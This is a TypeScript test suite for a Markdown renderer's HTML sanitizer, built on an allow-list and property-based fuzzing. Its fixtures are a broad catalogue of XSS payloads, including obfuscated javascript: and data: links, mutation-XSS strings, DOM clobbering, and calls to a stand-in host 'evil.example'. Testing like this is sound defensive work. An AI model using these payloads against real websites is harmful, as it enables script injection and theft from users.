import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { renderMarkdown } from '../../../src/markdown/render.ts';
import { elementsIn, reparsed, textIn, type ParsedElement } from './parsed-html.ts';

/** Where an address leads from a page of the site, read as a browser reads it. */
const leadsToPage = {
  test: (href: string): boolean =>
    ['https:', 'http:', undefined].includes(URL.parse(href, 'https://site.example/page/')?.protocol),
};

/** Attributes that each element of a text may have, with a test of their values. */
const ALLOWED: Readonly<Record<string, Readonly<Record<string, { test(value: string): boolean }>>>> = {
  a: { href: leadsToPage },
  blockquote: {},
  br: {},
  code: {},
  del: {},
  div: { class: /^table-frame$/, tabindex: /^0$/ },
  em: {},
  h2: { id: /^s(?:-\d+)+$/ },
  h3: { id: /^s(?:-\d+)+$/ },
  h4: { id: /^s(?:-\d+)+$/ },
  hr: {},
  li: {},
  ol: { start: /^\d+$/ },
  p: {},
  pre: {},
  strong: {},
  sub: {},
  sup: {},
  table: {},
  tbody: {},
  td: { align: /^(?:left|right|center)$/ },
  th: { align: /^(?:left|right|center)$/ },
  thead: {},
  tr: {},
  ul: {},
};

/** What stands in HTML against the allow-list. */
function forbiddenIn(html: string): readonly string[] {
  return elementsIn(html).flatMap(({ tag, attributes }: ParsedElement) => {
    const allowed = ALLOWED[tag];
    if (!allowed) return [`<${tag}>`];
    return Object.entries(attributes).flatMap(([name, value]) =>
      allowed[name]?.test(value) ? [] : [`${tag}[${name}="${value}"]`],
    );
  });
}

/** Raw HTML: none of it may work, all of it must be legible. */
const RAW_HTML: readonly (readonly [name: string, html: string])[] = [
  ['script', '<script>alert(1)</script>'],
  ['script from elsewhere', '<script src="https://evil.example/x.js"></script>'],
  ['script in capitals', '<ScRiPt>alert(1)</sCrIpT>'],
  ['script with a slash for a space', '<script/x>alert(1)</script>'],
  ['script that is never closed', '<script>alert(1)'],
  ['script inside a script tag', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['image with onerror', '<img src=x onerror=alert(1)>'],
  ['image with a broken quote', '<img """><script>alert(1)</script>">'],
  ['image with a graver event', '<img src=x onerror="fetch(`https://evil.example/`)">'],
  ['body with onload', '<body onload=alert(1)>'],
  ['element with autofocus', '<input autofocus onfocus=alert(1)>'],
  ['details that opens itself', '<details open ontoggle=alert(1)>x</details>'],
  ['mouse event on a link', '<a href="https://example.com/" onmouseover=alert(1)>x</a>'],
  ['link with javascript', '<a href="javascript:alert(1)">x</a>'],
  ['SVG with onload', '<svg onload=alert(1)></svg>'],
  ['SVG with a script', '<svg><script>alert(1)</script></svg>'],
  [
    'SVG with an animated link',
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>',
  ],
  ['SVG with use', '<svg><use href="data:image/svg+xml,x#y"></use></svg>'],
  [
    'MathML with a link',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  ],
  [
    'MathML that mutates',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  ],
  ['iframe', '<iframe src="https://evil.example/"></iframe>'],
  ['iframe with srcdoc', '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'],
  ['object', '<object data="javascript:alert(1)"></object>'],
  ['embed', '<embed src="javascript:alert(1)">'],
  ['style element', '<style>body{display:none}</style>'],
  ['style that imports', '<style>@import "https://evil.example/x.css";</style>'],
  ['style attribute', '<p style="background:url(javascript:alert(1))">x</p>'],
  ['link to a style sheet', '<link rel=stylesheet href="https://evil.example/x.css">'],
  ['form', '<form action="https://evil.example/"><input name=password></form>'],
  ['button with formaction', '<button formaction="javascript:alert(1)">x</button>'],
  ['base', '<base href="https://evil.example/">'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['template', '<template><img src=x onerror=alert(1)></template>'],
  ['noscript that mutates', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">x</p></noscript>'],
  ['title that mutates', '<title><a id="</title><img src=x onerror=alert(1)>">x</a></title>'],
  ['textarea that mutates', '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>'],
  [
    'select that mutates',
    '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>"></a></select>',
  ],
  ['comment that ends early', '<!--><img src=x onerror=alert(1)>-->'],
  ['CDATA', '<![CDATA[><img src=x onerror=alert(1)>]]>'],
  ['processing instruction', '<?x ><img src=x onerror=alert(1)>?>'],
  ['declaration', '<!DOCTYPE html [<!ENTITY x "alert(1)">]>'],
  ['id that shadows the page', '<a id="location" name="location">x</a>'],
  ['id of a section', '<h2 id="s-1">x</h2>'],
  ['name of a form property', '<form name="body"></form>'],
  ['class of the site', '<p class="table-frame">x</p>'],
  ['video with a source', '<video><source onerror=alert(1)></video>'],
  ['marquee', '<marquee onstart=alert(1)>x</marquee>'],
  ['portal to a frame', '<frameset onload=alert(1)></frameset>'],
  ['attribute with a null character', '<img src=x onerror\u0000=alert(1)>'],
  ['end of the article', '</div></main></body></html>'],
];

/** Links: the words stay, the address goes. */
const LINKS: readonly (readonly [name: string, markdown: string])[] = [
  ['javascript', '[x](javascript:alert(1))'],
  ['javascript in mixed case', '[x](JaVaScRiPt:alert(1))'],
  ['javascript with an entity', '[x](&#x6A;avascript:alert(1))'],
  ['javascript with a decimal entity', '[x](&#106;avascript&#58;alert(1))'],
  ['javascript with a named entity', '[x](javascript&colon;alert(1))'],
  ['javascript with a tab', '[x](java&#9;script:alert(1))'],
  ['javascript with a line feed', '[x](java&#10;script:alert(1))'],
  ['javascript with a return', '[x](<java&#13;script:alert(1)>)'],
  ['javascript after a space', '[x](< javascript:alert(1)>)'],
  ['javascript after a control character', '[x](&#1;javascript:alert(1))'],
  ['javascript after a no-break space', '[x](&nbsp;javascript:alert(1))'],
  ['javascript after a byte order mark', '[x](\uFEFFjavascript:alert(1))'],
  ['javascript with an escaped colon', '[x](javascript\\:alert(1))'],
  ['javascript with percent signs', '[x](javascript%3Aalert(1))'],
  ['data', '[x](data:text/html,<script>alert(1)</script>)'],
  ['data in base64', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
  ['vbscript', '[x](vbscript:msgbox(1))'],
  ['file', '[x](file:///etc/passwd)'],
  ['blob', '[x](blob:https://example.com/x)'],
  ['view-source', '[x](view-source:https://example.com/)'],
  ['mail', '[x](mailto:a@example.com)'],
  ['telephone', '[x](tel:10086)'],
  ['reference', '[x][r]\n\n[r]: javascript:alert(1)'],
  ['reference with an entity', '[x][r]\n\n[r]: <&#x6A;avascript:alert(1)> "title"'],
  ['autolink', 'x <javascript:alert(1)>'],
  ['autolink of data', 'x <data:text/html,x>'],
  ['link with a title', '[x](javascript:alert(1) "onmouseover=alert(1)")'],
  ['link in a heading', '## [x](javascript:alert(1))'],
  ['link in a table', '| [x](javascript:alert(1)) |\n| --- |\n| [x](data:text/html,x) |'],
  ['link around an image', '[![x](javascript:alert(1))x](javascript:alert(1))'],
];

/** Other Markdown: nothing but allowed elements comes of it. */
const OTHERS: readonly (readonly [name: string, markdown: string])[] = [
  ['an image', '![x](https://evil.example/pixel.png)'],
  ['an image with javascript', '![x](javascript:alert(1))'],
  ['an image whose description breaks out', '![x" onerror="alert(1)](y)'],
  ['an image by reference', '![x][r]\n\n[r]: https://evil.example/x.png "onerror=alert(1)"'],
  ['a title that breaks out', '[x](https://example.com/ "\\" onmouseover=\\"alert(1)")'],
  ['an address that breaks out', '[x](https://example.com/"onmouseover="alert(1))'],
  ['a language of code that breaks out', '```x" onmouseover="alert(1)\ncode\n```'],
  ['entities that spell a tag', '&lt;script&gt;alert(1)&lt;/script&gt;'],
  ['a tag in code', '`<img src=x onerror=alert(1)>`'],
  ['a tag in a code block', '```html\n<script>alert(1)</script>\n```'],
  ['a footnote with a strange name', 'x[^__proto__]\n\n[^__proto__]: y'],
  ['a task list', '- [ ] x\n- [x] y'],
  ['an autolinked address', 'www.example.com and https://example.com/<script>'],
  ['deeply nested quotations', `${'>'.repeat(200)} x`],
];

describe.each(RAW_HTML)('raw HTML: %s', (_, html) => {
  it.each([
    ['by itself', (raw: string) => raw],
    ['within a sentence', (raw: string) => `before ${raw} after`],
    ['in a heading', (raw: string) => `## ${raw}`],
    ['in a table', (raw: string) => `| a |\n| --- |\n| ${raw.replaceAll('|', '\\|')} |`],
    ['in a list', (raw: string) => `- ${raw}`],
  ])('does nothing %s', async (__, wrap) => {
    const rendered = await renderMarkdown(wrap(html));
    expect(forbiddenIn(rendered.html)).toEqual([]);
    expect(reparsed(reparsed(rendered.html))).toBe(reparsed(rendered.html));
  });

  it('is shown as the characters it is made of', async () => {
    const shown = textIn((await renderMarkdown(html)).html).trim();
    // Markdown itself replaces the null character (CommonMark 2.3).
    expect(shown).toBe(html.replaceAll('\u0000', '\uFFFD'));
  });
});

describe.each(LINKS)('link: %s', (_, markdown) => {
  it('keeps its words and leads nowhere outside http(s)', async () => {
    const { html } = await renderMarkdown(markdown);
    expect(forbiddenIn(html)).toEqual([]);
    expect(textIn(html)).toContain('x');
  });
});

describe.each(OTHERS)('Markdown: %s', (_, markdown) => {
  it('becomes allowed elements only', async () => {
    const { html } = await renderMarkdown(markdown);
    expect(forbiddenIn(html)).toEqual([]);
    expect(reparsed(reparsed(html))).toBe(reparsed(html));
  });
});

describe('any mixture of these', () => {
  const fragments = [...RAW_HTML, ...LINKS, ...OTHERS].map(([, markdown]) => markdown);
  const separators = [
    '',
    ' ',
    '\n',
    '\n\n',
    '\n> ',
    '\n- ',
    '\n    ',
    ' | ',
    '"',
    "'",
    '`',
    '<',
    '>',
    '](',
    '\\',
    '## ',
  ];

  it('becomes allowed elements only', async () => {
    const parts = fc.array(
      fc.oneof(fc.constantFrom(...fragments), fc.constantFrom(...separators), fc.string({ maxLength: 5 })),
      {
        maxLength: 12,
      },
    );
    await fc.assert(
      fc.asyncProperty(parts, async (some) => {
        const { html } = await renderMarkdown(some.join(''));
        expect(forbiddenIn(html)).toEqual([]);
      }),
      { numRuns: 200, seed: 2021 },
    );
  });
});
